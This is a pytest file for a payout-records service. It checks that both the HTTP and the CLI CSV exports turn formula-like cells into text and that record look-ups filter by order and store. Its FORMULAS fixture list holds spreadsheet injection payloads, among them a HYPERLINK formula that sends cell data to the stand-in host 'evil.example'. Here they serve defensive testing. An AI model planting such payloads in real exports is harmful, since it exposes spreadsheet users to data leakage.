"""The 打款记录 page's export and look-ups: CSV cells a spreadsheet never runs as formulas, records by
order number and by store (SPEC §6; issue 12, finding 3)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from api import create_app

from .conftest import AUDIT, RULES, merged
from .test_cli import rulesvc
from .test_payout import INITIATE_OK

NOW = "2026-11-20T10:00:00+08:00"
# What a caller could put in the text facts a record keeps (customer.account, order.id, store.id).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+2", "-2+3", "\t=1+1", "\r=1+1", "\n=1+1",
            " =1+1"]


@pytest.fixture
def service(tmp_path):
    store = f"sqlite:///{tmp_path}/store.db"
    return create_app(RULES, store_url=store).test_client(), store


def commit(client, key: str, **changes) -> dict:
    facts = merged(INITIATE_OK, {"actor": {"used_today": None}, "order": {"payout_count": None, "payout_total": None},
                                 **changes})
    response = client.post("/v1/decisions/payout.initiate",
                           json={"facts": facts, "now": NOW, "commit": True, "idempotency_key": key})
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def test_formula_cells_are_written_as_text_in_both_exports(service):
    client, store = service
    for index, formula in enumerate(FORMULAS):
        commit(client, f"f-{index}", customer={"account": formula}, order={"id": formula if index % 2 else f"o-{index}"},
               store={"id": "@store" if index == 0 else "store-1"})
    http = client.get("/v1/decisions/records?decision=payout.initiate&format=csv", headers=AUDIT).get_data(as_text=True)
    # bytes, not text: a CR inside a cell must reach the reader as it was written
    cli = subprocess.run([sys.executable, "-m", "cli.main", "records", "--store", store, "--csv"], capture_output=True,
                         cwd=RULES.parent, timeout=60)
    assert cli.returncode == 0, cli.stderr
    for text in (http, cli.stdout.decode("utf-8")):
        header, *records = rows(text)
        assert header[:3] == ["打款单号", "订单号", "客户账号"]
        assert len(records) == len(FORMULAS)
        accounts = [record[2] for record in records]
        assert accounts == ["'" + formula for formula in FORMULAS]
        assert [record[1] for record in records][1::2] == ["'" + formula for formula in FORMULAS[1::2]]
        assert records[0][6] == "'@store" and records[1][6] == "store-1"
        assert all(record[5] == "30.00" for record in records)  # money is never negative: untouched
        for record in records:  # nothing a spreadsheet would run is left at the start of a cell
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", " ")) for cell in record), record


def test_records_filter_by_order_and_store(service):
    client, store = service
    first = commit(client, "a", order={"id": "order-A"}, store={"id": "store-1"})
    second = commit(client, "b", order={"id": "order-A"}, store={"id": "store-1"})
    other = commit(client, "c", order={"id": "order-B"}, store={"id": "store-2"})

    def ids(query: str) -> list[str]:
        response = client.get(f"/v1/decisions/records?{query}", headers=AUDIT)
        assert response.status_code == 200, response.get_json()
        return [record["decision_id"] for record in response.get_json()["records"]]

    assert ids("order_id=order-A") == [first["decision_id"], second["decision_id"]]
    assert ids("store_id=store-2") == [other["decision_id"]]
    assert ids("order_id=order-A&store_id=store-2") == []
    assert ids("order_id=nothing") == []
    csv_rows = rows(client.get("/v1/decisions/records?order_id=order-B&format=csv", headers=AUDIT).get_data(as_text=True))
    assert [row[0] for row in csv_rows[1:]] == [other["decision_id"]]
    assert client.get("/v1/decisions/records?order_id=%00", headers=AUDIT).status_code == 400

    by_order = rulesvc("records", "--store", store, "--order-id", "order-A")
    assert [json.loads(line)["decision_id"] for line in by_order.stdout.splitlines()] == \
        [first["decision_id"], second["decision_id"]]
    by_store = rulesvc("records", "--store", store, "--store-id", "store-2", "--csv")
    assert [row[0] for row in rows(by_store.stdout)[1:]] == [other["decision_id"]]
